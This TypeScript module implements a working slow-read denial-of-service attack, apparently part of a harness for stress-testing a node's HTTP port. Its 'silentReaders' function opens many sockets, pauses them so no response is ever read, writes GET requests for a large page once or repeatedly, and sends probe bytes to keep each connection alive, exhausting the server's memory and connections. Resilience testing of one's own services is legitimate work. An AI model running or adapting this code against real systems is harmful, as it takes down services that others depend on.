import { once } from 'node:events';
import { connect, type Socket } from 'node:net';

export interface AttackTarget {
  readonly host: string;
  readonly httpPort: number;
  readonly grpcPort: number;
  /** A path of a large page, and the API key that reads it; attacks that have none take what needs no credential. */
  readonly page?: { readonly path: string; readonly apiKey: string };
}

/** Runs until `signal` is aborted, with so many connections at a time. Resolves to the bytes that it sent. */
export type Attack = (target: AttackTarget, signal: AbortSignal, connections: number) => Promise<number>;

const documentMinBytes = 100_000;

/**
 * The request for the target's page, or for `path` where it has none, once it was answered: an attack that reads
 * nothing cannot see that what it asks for is not there.
 */
export async function answeredRequest(target: AttackTarget, path: string): Promise<string> {
  const page = target.page ?? { path, apiKey: null };
  const credential = page.apiKey === null ? {} : { authorization: `Bearer ${page.apiKey}` };
  const url = `http://${target.host}:${target.httpPort}${page.path}`;
  const answer = await fetch(url, { headers: credential });
  const bytes = (await answer.arrayBuffer()).byteLength;
  if (!answer.ok || bytes < documentMinBytes)
    throw new Error(`${page.path} was answered ${answer.status} with ${bytes} bytes`);
  const fields = Object.entries({ host: 'a', ...credential }).map(([name, value]) => `${name}: ${value}\r\n`);
  return `GET ${page.path} HTTP/1.1\r\n${fields.join('')}\r\n`;
}

/** A new connection is opened this long after the last one has ended. */
const reopenMs = 50;
/** A socket that reads nothing learns only from a write that its connection has ended. */
const probeMs = 1_000;

/**
 * Keeps so many connections to the HTTP port open, of which nothing is ever read. `bytes` is written to each; `again`:
 * over and over, as fast as the node takes it. Resolves to the bytes that were sent.
 */
export async function silentReaders(
  { host, httpPort }: AttackTarget,
  signal: AbortSignal,
  connections: number,
  bytes: Buffer,
  again: boolean,
): Promise<number> {
  let sent = 0;
  const one = async (): Promise<void> => {
    while (!signal.aborted) {
      const socket = connect(httpPort, host).on('error', () => {});
      const closed = new Promise<void>((resolve) => socket.once('close', () => resolve()));
      const stop = (): void => void socket.destroy();
      signal.addEventListener('abort', stop);
      await Promise.race([once(socket, 'connect').catch(() => {}), closed]);
      socket.pause();
      // Awaited first: `sent += await …` would lose what other connections added meanwhile.
      const written = await write(socket, bytes, again, closed);
      sent += written;
      // HTTP/1 passes over an empty line before a request.
      const probe = setInterval(() => socket.write('\r\n'), probeMs);
      await closed;
      clearInterval(probe);
      signal.removeEventListener('abort', stop);
      await new Promise((resolve) => setTimeout(resolve, reopenMs));
    }
  };
  await Promise.all(Array.from({ length: connections }, one));
  return sent;
}

async function write(socket: Socket, bytes: Buffer, again: boolean, closed: Promise<void>): Promise<number> {
  let sent = 0;
  do {
    if (socket.destroyed) break;
    if (!socket.write(bytes)) await Promise.race([new Promise<void>((taken) => socket.once('drain', taken)), closed]);
    if (!socket.destroyed) sent += bytes.length;
  } while (again);
  return sent;
}
